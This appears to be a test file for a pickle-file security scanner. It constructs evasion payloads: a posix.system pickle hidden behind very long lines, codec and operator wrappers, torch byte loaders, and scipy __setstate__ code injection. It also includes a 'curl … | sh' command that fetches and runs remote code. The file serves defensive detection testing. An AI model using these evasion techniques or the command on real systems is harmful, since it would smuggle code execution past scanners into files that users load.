import { bytes, call, glob, proto, run, str, u32 } from '../testing';
import { MAX_GLOBALS } from '../formats/pickle/machine/globals';
import type { Row } from './evasion-rows';
import { RUN, testRows } from './evasion-rows';

// Payloads behind what the machine forgets, doesn't read, or takes for granted.

const PAYLOAD = "cposix\nsystem\n(S'echo hi'\ntR.";
const binbytes = (value: string): Uint8Array => bytes('B', u32(value.length), value);
const text = (value: string): Uint8Array => bytes('X', u32(value.length), value);
const loaded = (...data: Uint8Array[]): Uint8Array =>
  proto(3, call(glob('torch.storage', '_load_from_bytes'), ...data));

const LONG: readonly Row[] = [
  ['a text line longer than the probe', bytes('V', 'a'.repeat(300_000), '\n0', PAYLOAD), 'posix', 'system', 'CRITICAL'],
  ['a number as long', bytes('F1.', '0'.repeat(300_000), '\n0', PAYLOAD), 'posix', 'system', 'CRITICAL'],
  ['the same behind a mark', bytes('(V', 'a'.repeat(300_000), '\n1', PAYLOAD), 'posix', 'system', 'CRITICAL']
];

const LOADED: readonly Row[] = [
  [
    'bytes by a character set that is not followed',
    loaded(call(glob('_codecs', 'encode'), text(PAYLOAD), text('cp1252'))),
    'torch.storage',
    '_load_from_bytes',
    'HIGH'
  ],
  [
    'bytes by an operator',
    loaded(call(glob('_operator', 'mul'), binbytes(PAYLOAD), bytes('K\x01'))),
    'torch.storage',
    '_load_from_bytes',
    'HIGH'
  ],
  [
    'a buffer over bytes',
    loaded(call(glob('builtins', 'memoryview'), binbytes(PAYLOAD))),
    'torch.storage',
    '_load_from_bytes',
    'HIGH'
  ],
  [
    'bytes longer than a constant',
    loaded(binbytes(PAYLOAD + '\0'.repeat(33 * 2 ** 20))),
    'posix',
    'system',
    'CRITICAL'
  ],
  [
    'the loader as the function that rebuilds a tensor',
    proto(
      3,
      call(
        glob('torch._tensor', '_rebuild_from_type_v2'),
        glob('torch.storage', '_load_from_bytes'),
        glob('torch', 'Tensor'),
        bytes(binbytes(PAYLOAD), 0x85),
        bytes('}')
      )
    ),
    'torch.storage',
    '_load_from_bytes',
    'HIGH'
  ]
];

const NORM = bytes(glob('scipy.stats._continuous_distns', 'norm_gen'), ')', 0x81);
const STATE = bytes('}', str('_parse_arg_template'), text("import os\nos.system('echo hi')"), 's');
const TRUSTED_NAMES = Array.from({ length: MAX_GLOBALS }, (_, i) => `cpandas.core.x\nB${i}\n0`).join('');
const OBJECT = bytes(glob('builtins', 'object'), 'q\x030');

const FORGOTTEN: readonly Row[] = [
  ['more names than are told apart', proto(2, TRUSTED_NAMES, RUN), '(computed)', '(computed)', 'HIGH'],
  [
    'an object that is forgotten before it gets its state',
    proto(2, NORM, 'q\x010(', ')'.repeat(1_100_000), 'l0h\x01', STATE, 'b'),
    'scipy.stats',
    'rv_continuous.__setstate__',
    'CRITICAL'
  ],
  [
    'an object that a harmless function returns',
    proto(2, call(glob('builtins', 'max'), bytes('(', NORM, 't')), STATE, 'b'),
    'scipy.stats',
    'rv_continuous.__setstate__',
    'CRITICAL'
  ],
  [
    'an object behind many of an unknown class',
    proto(
      2,
      bytes(glob('foo.bar', 'Baz'), 'q\x010', glob('copyreg', '_reconstructor'), 'q\x020', OBJECT),
      'h\x02h\x01h\x03N\x87R0'.repeat(100_001),
      'h\x02',
      glob('scipy.stats._continuous_distns', 'norm_gen'),
      bytes('h\x03N', 0x87, 'R', STATE, 'b')
    ),
    'scipy.stats._continuous_distns',
    'norm_gen.__setstate__',
    'CRITICAL'
  ]
];

const COMMAND = text('curl http://example.org/p.sh | sh');
const LAUNCH = glob('mypkg.tools', 'launch');
const PARTIAL = bytes(glob('functools', 'partial'), LAUNCH, 0x85, 'R(', LAUNCH, COMMAND, 0x85, '}Ntb');

const HELD: readonly Row[] = [
  ['a command in the state of a partial', proto(2, PARTIAL), 'mypkg.tools', 'launch', 'HIGH'],
  [
    'iter of something to call',
    proto(2, call(glob('builtins', 'list'), call(glob('builtins', 'iter'), PARTIAL, bytes('K\x00')))),
    'builtins',
    'iter',
    'HIGH'
  ]
];

const list = (item: Uint8Array): Uint8Array => bytes('](', ...Array.from({ length: 40 }, () => item), 'e');
/** More values than are looked at for one call. */
const LARGE = list(list(bytes('K\x01')));

const BEHIND: readonly Row[] = [
  ['a command behind a large argument', proto(2, call(LAUNCH, LARGE, COMMAND)), 'mypkg.tools', 'launch', 'HIGH'],
  [
    'a dangerous name behind a large argument',
    proto(2, call(glob('numpy.core.multiarray', '_reconstruct'), LARGE, glob('posix', 'system'))),
    'posix',
    'system',
    'CRITICAL'
  ]
];

testRows({
  'lines longer than the probe': LONG,
  'behind large arguments': BEHIND,
  'what a loader is given': LOADED,
  'what the machine forgets': FORGOTTEN,
  'what is held and called later': HELD
});

test('honest partials, iterators and tensors stay clean', () => {
  const partial = bytes(glob('functools', 'partial'), LAUNCH, 0x85, 'R(', LAUNCH, text('/data/in.csv'), 0x85, '}Ntb');
  expect(run(proto(2, partial)).verdict).toBe('review');
  expect(run(proto(2, call(glob('builtins', 'iter'), bytes(']')))).verdict).toBe('clean');
  expect(run(loaded(binbytes('\x80\x02K\x01.'))).verdict).toBe('clean');
  expect(
    run(loaded(call(glob('_codecs', 'encode'), text('\x80\x02K\x01.'.replace('\x80', '\xc2\x80')), text('latin1'))))
      .verdict
  ).toBe('clean');
});

test('a method of a large object is still read as one', () => {
  const object = bytes(glob('mypkg.plots', 'Axes'), ')', 0x81, '}', str('lines'), LARGE, 'sb');
  const report = run(proto(4, call(glob('builtins', 'getattr'), object, str('update'))));
  expect(report.findings.map(({ severity }) => severity)).toEqual(['LOW', 'LOW']);
  expect(report.findings[1].evidence).toMatch(/, 'update'\)$/);
});

test('the report says so when not every object was looked at', () => {
  const object = bytes('h\x00)', 0x81, '}', str('a'), str('b'), 'sb0');
  const many = proto(2, glob('foo', 'Bar'), 'q\x000', bytes(...Array.from({ length: 1_500 }, () => object)), 'N');
  expect(run(many, { limits: { maxExamined: 1_000 } }).coverage.map(({ reason }) => reason)).toContain('limit-calls');
  expect(run(many).verdict).toBe('review');
});

test('any number of objects whose state is numbers is seen', () => {
  const object = bytes('h\x00)', 0x81, '}', str('a'), 'K\x01sb0');
  const many = proto(2, glob('foo', 'Bar'), 'q\x000', bytes(...Array.from({ length: 3_000 }, () => object)), 'N');
  const report = run(many, { limits: { maxExamined: 1_000 } });
  expect([report.verdict, report.findings.map(({ count }) => count)]).toEqual(['review', [3_000]]);
});

test('a callable is looked at again when it is called in another way', () => {
  const run_ = bytes(glob('foo', 'run_command'), 'q\x00)', 0x81, '0h\x00)R');
  expect(run(proto(2, run_)).findings.map(({ severity }) => severity)).toContain('HIGH');
});

test('the name of a hook is seen among many keys, wherever it was written first', () => {
  const keys = bytes(...Array.from({ length: 80 }, (_, i) => [str(`k${i}`), bytes('N')]).flat());
  const early = bytes(str('__setstate__'), 'q\x000', glob('foo', 'Bar'), ')', 0x81, '}(', keys, 'h\x00Nub');
  const rules = (data: Uint8Array): string[] => run(data).findings.map(({ rule }) => rule);
  expect(rules(proto(4, early))).toContain('pickle-object-rewired');
  const text = bytes(glob('foo', 'Bar'), ')', 0x81, '}(', keys, 'V\\u005f_setstate__\nNub');
  expect(rules(proto(4, text))).toContain('pickle-object-rewired');
});
